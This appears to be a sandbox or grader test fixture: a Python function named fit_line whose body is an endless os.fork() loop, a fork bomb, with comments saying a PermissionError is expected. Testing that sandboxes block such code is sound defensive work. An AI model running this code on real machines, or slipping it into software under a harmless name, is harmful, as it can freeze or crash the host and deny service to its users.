# Forks without an end.
# grade: line=0
# says: raised PermissionError
# %% fit_line
import os

def fit_line(x, y):
    while True:
        os.fork()
